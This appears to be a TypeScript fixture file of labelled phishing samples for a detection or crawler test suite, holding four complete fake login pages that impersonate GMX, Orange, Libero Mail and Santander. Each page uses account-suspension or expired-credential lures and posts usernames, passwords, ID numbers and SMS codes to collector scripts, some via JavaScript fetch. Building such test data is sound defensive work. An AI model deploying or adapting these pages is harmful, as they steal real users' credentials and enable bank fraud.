import { htmlRoute, type Entry } from '../entry.js';
import { jsRoute, pngRoute } from '../parts/e-bin.js';

// Webmail and bank kits on free hosting accounts (alpenweb.site / gratis-hosting.eu subdomains).
const freeBanner = (host: string) => `<div style="position:fixed;bottom:0;right:0;background:#333;color:#ccc;font:11px Arial;padding:3px 8px;z-index:9">Kostenlos gehostet von ${host}</div>`;

export const entries: Entry[] = [
{
  id: 'zl-phish-free-gmx-login',
  label: 'phishing',
  kind: 'free-host-kit',
  url: 'https://gmx-kontosicherheit.alpenweb.site/',
  body: `<!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>GMX - E-Mail, FreeMail, Themen- & Shopping-Portal</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:Arial,sans-serif;background:#f4f6f8}.h{background:#1c449b;color:#fff;padding:14px 30px;font-size:28px;font-weight:700}
.b{max-width:380px;margin:40px auto;background:#fff;padding:30px;border-radius:4px}input{width:100%;padding:11px;border:1px solid #9aa7bd;margin:6px 0 14px}
button{background:#1c449b;color:#fff;border:0;padding:12px;width:100%;font-size:16px}.w{background:#fdeeee;color:#a00;padding:10px;font-size:13px}</style></head>
<body><div class="h">GMX</div><div class="b"><h2>Login FreeMail</h2><div class="w">Ungewöhnliche Anmeldeaktivität erkannt. Bitte bestätigen Sie Ihr Konto, um eine Sperrung zu vermeiden.</div>
<form action="https://gmx-kontosicherheit.alpenweb.site/send.php" method="post"><input name="username" placeholder="E-Mail-Adresse"><input name="password" type="password" placeholder="Passwort"><button>Login</button></form>
<p style="font-size:12px;color:#666">Passwort vergessen? · Jetzt kostenlos registrieren</p></div>${freeBanner('alpenweb.site')}</body></html>`,
},
{
  id: 'zl-phish-free-orange-messagerie',
  label: 'phishing',
  kind: 'free-host-kit',
  url: 'https://messagerie-orange-fr.gratis-hosting.eu/identification/',
  body: `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Identifiez-vous avec votre compte - Orange</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:"Helvetica Neue",Helvetica,Arial,sans-serif}.t{background:#000;padding:10px 24px}.t span{display:inline-block;width:50px;height:50px;background:#ff7900;color:#fff;font-weight:700;font-size:13px;line-height:80px;padding-left:5px}
.c{max-width:420px;margin:40px auto;padding:0 20px}h1{font-size:30px;font-weight:700}input{width:100%;padding:12px;border:2px solid #ccc;margin:6px 0 14px;font-size:16px}
button{background:#ff7900;border:0;padding:12px 20px;font-weight:700;font-size:16px}</style></head>
<body><div class="t"><span>orange</span></div><div class="c"><h1>Identifiez-vous</h1><p>avec votre compte Orange pour accéder à votre Mail Orange</p>
<form id="o" method="post" action="check.php"><label>Adresse mail ou numéro de mobile</label><input name="login"><label>Mot de passe</label><input name="pwd" type="password"><button>S'identifier</button></form>
<p><a href="#">Vous n'avez pas de compte ?</a></p><p style="font-size:12px;color:#555">© Orange 2026 · Conditions générales · Données personnelles</p></div>
<script>document.getElementById('o').onsubmit=function(e){e.preventDefault();fetch('check.php',{method:'POST',body:new FormData(this)}).finally(function(){location.href='https://www.orange.fr/portail'})}</script></body></html>`,
  routes: { 'messagerie-orange-fr.gratis-hosting.eu/identification/check.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: '' } },
},
{
  id: 'zl-phish-free-libero-mail',
  label: 'phishing',
  kind: 'free-host-kit',
  url: 'https://libero-mail-verifica.gratis-hosting.eu/',
  body: `<!DOCTYPE html><html lang="it"><head><meta charset="utf-8"><title>Libero Mail - login</title>
<style>body{margin:0;font-family:Arial;background:#eef2f7}.h{background:#fff;padding:14px 30px;border-bottom:4px solid #00b3ff;font:700 26px Arial;color:#0d2c66}.f{max-width:390px;margin:40px auto;background:#fff;padding:28px}
input{width:100%;padding:11px;margin:6px 0 14px;border:1px solid #ccd}button{width:100%;padding:12px;background:#0d2c66;color:#fff;border:0;font-size:15px}</style></head>
<body><div class="h">Libero <span style="color:#00b3ff">MAIL</span></div><div class="f"><h3>Accedi alla tua casella</h3>
<p style="font-size:13px;color:#555">Gentile utente, la tua casella sarà disattivata entro 24 ore per inattività. Effettua l'accesso per mantenerla attiva.</p>
<form method="post" action="invia.php"><input name="LOGINID" placeholder="Email"><input name="PASSWORD" type="password" placeholder="Password"><label style="font-size:13px"><input type="checkbox" style="width:auto"> Resta collegato</label><button>ENTRA</button></form></div>
${freeBanner('gratis-hosting.eu')}</body></html>`,
},
{
  id: 'zl-phish-free-santander-sms',
  label: 'phishing',
  kind: 'free-host-kit',
  url: 'https://santander-es-cliente.alpenweb.site/particulares/acceso.php',
  body: `<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><title>Santander - Acceso Particulares</title><meta name="viewport" content="width=device-width,initial-scale=1">
<style>body{margin:0;font-family:"Santander Text",Arial;background:#f6f6f6}.h{background:#ec0000;color:#fff;padding:16px 26px;font-size:24px;font-weight:700}
.b{max-width:400px;margin:30px auto;background:#fff;padding:28px;border-radius:8px}input{width:100%;padding:12px;margin:6px 0 14px;border:1px solid #ccc;border-radius:6px}
button{width:100%;padding:13px;background:#ec0000;color:#fff;border:0;border-radius:24px;font-size:16px}</style></head>
<body><div class="h">&#128293; Santander</div><div class="b"><h2>Acceso clientes</h2><p style="font-size:13px">Su Firma Electrónica ha caducado. Acceda para activar la nueva Clave de Seguridad.</p>
<div id="st1"><input id="dni" placeholder="DNI / NIE"><input id="cl" type="password" placeholder="Clave de acceso"><button id="go">Entrar</button></div>
<div id="st2" style="display:none"><p>Le hemos enviado un código SMS. Introdúzcalo para confirmar la activación.</p><input id="sms" placeholder="Código SMS" maxlength="8"><button id="go2">Confirmar</button></div></div>
<script>go.onclick=function(){fetch('a.php?u='+encodeURIComponent(dni.value)+'&p='+encodeURIComponent(cl.value));st1.style.display='none';st2.style.display='block'};
go2.onclick=function(){fetch('a.php?s='+sms.value);document.querySelector('.b').innerHTML='<h3>Activación completada</h3>'}</script>${freeBanner('alpenweb.site')}</body></html>`,
  routes: { 'santander-es-cliente.alpenweb.site/particulares/a.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: '1' } },
},
];
